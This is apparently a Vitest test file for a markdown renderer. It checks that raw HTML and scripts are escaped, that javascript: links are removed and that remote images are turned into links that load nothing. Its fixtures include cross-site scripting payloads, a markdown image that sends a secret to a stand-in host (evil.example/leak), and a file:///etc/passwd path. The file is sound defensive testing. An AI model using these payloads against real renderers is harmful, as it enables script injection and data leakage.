import { describe, expect, it } from 'vitest';
import { isRemote, renderMarkdown } from './markdown';

describe('renderMarkdown', () => {
  it('renders markdown and highlights code', () => {
    const html = renderMarkdown('**bold**\n\n```python\nx = 1\n```');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('hljs-');
  });
  it('shows raw HTML as text and strips scripts', () => {
    const html = renderMarkdown('<img src=x onerror=alert(1)> <script>alert(1)</script> [a](javascript:alert(1))');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('javascript:');
    expect(html).toContain('&lt;script&gt;');
  });
  it('shows a remote image as a link and loads nothing', () => {
    const html = renderMarkdown('![chart](http://evil.example/leak?secret=abc "t") and ![p](images/plot.png)');
    const doc = new DOMParser().parseFromString(html, 'text/html');
    const imgs = [...doc.querySelectorAll('img')].map((i) => i.getAttribute('src'));
    expect(imgs).toEqual(['images/plot.png']);
    const link = doc.querySelector('a.remote-image');
    expect(link?.getAttribute('href')).toBe('http://evil.example/leak?secret=abc');
    expect(link?.textContent).toContain('image: chart (remote, not loaded)');
  });
  it('names the remote image link in words, with no emoji a font must have', () => {
    const html = renderMarkdown('![chart](https://example.org/c.png)');
    const link = new DOMParser().parseFromString(html, 'text/html').querySelector('a.remote-image');
    expect(link?.getAttribute('aria-label')).toBe('image: chart (remote, not loaded): opens in your browser');
    expect(link?.textContent).toBe('image: chart (remote, not loaded)');
    expect(link?.querySelector('.icon-slot')?.getAttribute('data-icon')).toBe('image');
    expect(html).not.toMatch(/\p{Extended_Pictographic}/u);
  });
  it('takes every form of another host for remote', () => {
    for (const h of ['https://x/y.png', '//x/y.png', '\\\\x\\y', '/\\x/y', 'HTTP://X', 'ht\ttp://x', 'file:///etc/passwd', ' ftp://x']) {
      expect(isRemote(h), h).toBe(true);
    }
    for (const h of ['images/a.png', '/appicon.png', 'data:image/png;base64,AA', 'blob:abc']) {
      expect(isRemote(h), h).toBe(false);
    }
  });
});
